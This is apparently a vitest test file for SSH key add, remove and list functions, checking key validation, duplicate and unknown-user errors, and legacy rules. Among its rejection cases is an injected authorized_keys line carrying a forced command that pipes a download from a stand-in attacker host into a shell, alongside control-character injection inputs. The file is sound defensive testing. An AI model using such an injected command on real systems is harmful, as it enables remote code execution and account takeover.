import { beforeEach, describe, expect, it } from 'vitest';
import { InMemoryDocumentStore } from '../../../test/fakes/in-memory-document-store.js';
import { ecdsaKey, ed25519Key } from '../../../test/support/ssh-keys.js';
import { coreFailure as failure } from '../../../test/support/core-failure.js';
import type { UserData } from '../userdata/userdata-types.js';
import { addSshKey, listSshKeys, removeSshKey } from './ssh-keys.js';

const INVALID =
  'Invalid key type. Supported key types: ssh-ed25519, ecdsa-sha2-nistp256, ecdsa-sha2-nistp384, ecdsa-sha2-nistp521, ' +
  'sk-ssh-ed25519@openssh.com, sk-ecdsa-sha2-nistp256@openssh.com';
const LEGACY_INVALID = 'Invalid key type. Only ssh-ed25519 and ssh-rsa are supported.';

const ROOT_KEY = ed25519Key('admin@desk');
const ALICE_KEY = ed25519Key('alice@laptop');

function userData(): UserData {
  return {
    username: 'alice',
    sshKeys: [ALICE_KEY],
    users: [{ username: 'bob', hashedPassword: '$6$x$y' }],
    ssh: { enable: true, rootKeys: [ROOT_KEY] },
  };
}

let store: InMemoryDocumentStore<UserData>;
let deps: { userData: InMemoryDocumentStore<UserData> };

beforeEach(() => {
  store = new InMemoryDocumentStore(userData());
  deps = { userData: store };
});

describe('addSshKey', () => {
  it.each([
    ['a second line with a forced command', (k: string) => `${k}\ncommand="curl evil.example | sh" ${k}`],
    ['a carriage return in the comment', (k: string) => `${k} me\rcommand="x"`],
    ['a NUL byte', (k: string) => `${k}\u0000`],
    ['a DEL character in the comment', (k: string) => `${k} bad\u007fname`],
    ['a tab inside the key', (k: string) => k.replace(' ', '\t')],
    ['a line break followed by more text', (k: string) => `${k}\n `],
    ['two final line breaks', (k: string) => `${k}\n\n`],
  ])('refuses %s with INVALID_SSH_KEY under both rule sets, and writes nothing', async (_case, make) => {
    const key = make(ed25519Key('me'));
    const before = structuredClone(store.document);

    for (const rules of ['current', 'legacy'] as const) {
      await expect(addSshKey(deps, 'bob', key, rules)).rejects.toMatchObject({ code: 'INVALID_SSH_KEY' });
    }
    expect(store.document).toEqual(before);
  });

  it('stores a key pasted with its final line break (as `cat key.pub` prints it) without it, and removes it the same way', async () => {
    const key = ed25519Key('pasted');

    await addSshKey(deps, 'bob', `${key}\n`);
    await addSshKey(deps, 'alice', `${key}\r\n`);

    expect(store.document.users![0]!.sshKeys).toEqual([key]);
    expect(store.document.sshKeys).toEqual([ALICE_KEY, key]);
    await expect(addSshKey(deps, 'bob', key)).rejects.toMatchObject({ code: 'KEY_ALREADY_EXISTS' });
    await removeSshKey(deps, 'bob', `${key}\n`);
    expect(store.document.users![0]!.sshKeys).toEqual([]);
  });

  it('appends the untrimmed key to root, the primary user and a user, creating missing lists', async () => {
    const key = `  ${ed25519Key('new')} `;

    expect(await addSshKey(deps, 'root', key)).toBe('root');
    expect(await addSshKey(deps, 'alice', key)).toBe('primary');
    expect(await addSshKey(deps, 'bob', key)).toBe('user');

    expect(store.document.ssh!.rootKeys).toEqual([ROOT_KEY, key]);
    expect(store.document.sshKeys).toEqual([ALICE_KEY, key]);
    expect(store.document.users![0]).toEqual({ username: 'bob', hashedPassword: '$6$x$y', sshKeys: [key] });
  });

  it('makes ssh.rootKeys, sshKeys and users present after a write', async () => {
    store.document = { username: 'alice' };

    await addSshKey(deps, 'alice', ALICE_KEY);

    expect(store.document).toEqual({ username: 'alice', sshKeys: [ALICE_KEY], ssh: { rootKeys: [] }, users: [] });
  });

  it('rejects an invalid key with 400 before looking at the user, and writes nothing', async () => {
    expect(await failure(addSshKey(deps, 'nobody_here', 'ssh-rsa AAAA'))).toEqual({ code: 'INVALID_SSH_KEY', status: 400, message: INVALID });
    expect(store.writes).toBe(0);
  });

  it('rejects an unknown user with 404 and a duplicate (exact text) with 409, writing nothing', async () => {
    expect(await failure(addSshKey(deps, 'carol', ALICE_KEY))).toEqual({ code: 'USER_NOT_FOUND', status: 404, message: 'User not found' });
    expect(await failure(addSshKey(deps, 'alice', ALICE_KEY))).toEqual({ code: 'KEY_ALREADY_EXISTS', status: 409, message: 'Key already exists' });
    expect(await failure(addSshKey(deps, 'root', ROOT_KEY))).toMatchObject({ code: 'KEY_ALREADY_EXISTS' });
    expect(store.writes).toBe(0);
  });

  it('with the legacy rule accepts any ssh-ed25519/ssh-rsa prefix and refuses other types with the legacy text', async () => {
    await addSshKey(deps, 'bob', 'ssh-rsaXYZ', 'legacy');
    expect(store.document.users![0]!.sshKeys).toEqual(['ssh-rsaXYZ']);

    expect(await failure(addSshKey(deps, 'bob', ecdsaKey('nistp256'), 'legacy'))).toEqual({
      code: 'INVALID_SSH_KEY',
      status: 400,
      message: LEGACY_INVALID,
    });
  });
});

describe('removeSshKey', () => {
  it('removes from root, the primary user and a user', async () => {
    store.document.users![0]!.sshKeys = ['k1', 'k2'];

    expect(await removeSshKey(deps, 'bob', 'k1')).toBe('user');
    expect(await removeSshKey(deps, 'alice', ALICE_KEY)).toBe('primary');
    expect(await removeSshKey(deps, 'root', ROOT_KEY)).toBe('root');

    expect(store.document.users![0]!.sshKeys).toEqual(['k2']);
    expect(store.document.sshKeys).toEqual([]);
    expect(store.document.ssh).toEqual({ enable: true, rootKeys: [] });
  });

  it('drops an emptied rootKeys only when asked (legacy REST rule)', async () => {
    await removeSshKey(deps, 'root', ROOT_KEY, { dropEmptyRootKeys: true });

    expect(store.document.ssh).toEqual({ enable: true });
  });

  it('keeps a non-empty rootKeys under the legacy rule', async () => {
    store.document.ssh!.rootKeys = [ROOT_KEY, 'other'];

    await removeSshKey(deps, 'root', ROOT_KEY, { dropEmptyRootKeys: true });

    expect(store.document.ssh!.rootKeys).toEqual(['other']);
  });

  it('answers 404 Key not found and 404 User not found without writing', async () => {
    expect(await failure(removeSshKey(deps, 'bob', 'absent'))).toEqual({ code: 'KEY_NOT_FOUND', status: 404, message: 'Key not found' });
    expect(await failure(removeSshKey(deps, 'root', 'absent'))).toMatchObject({ code: 'KEY_NOT_FOUND' });
    expect(await failure(removeSshKey(deps, 'carol', 'absent'))).toEqual({ code: 'USER_NOT_FOUND', status: 404, message: 'User not found' });
    expect(store.writes).toBe(0);
    expect(store.document).toEqual(userData());
  });
});

describe('listSshKeys', () => {
  it('lists each owner, [] for absent lists, 404 for unknown users', async () => {
    expect(await listSshKeys(deps, 'root')).toEqual([ROOT_KEY]);
    expect(await listSshKeys(deps, 'alice')).toEqual([ALICE_KEY]);
    expect(await listSshKeys(deps, 'bob')).toEqual([]);
    store.document = { username: 'alice' };
    expect(await listSshKeys(deps, 'root')).toEqual([]);
    expect(await listSshKeys(deps, 'alice')).toEqual([]);
    expect(await failure(listSshKeys(deps, 'bob'))).toEqual({ code: 'USER_NOT_FOUND', status: 404, message: 'User not found' });
  });
});
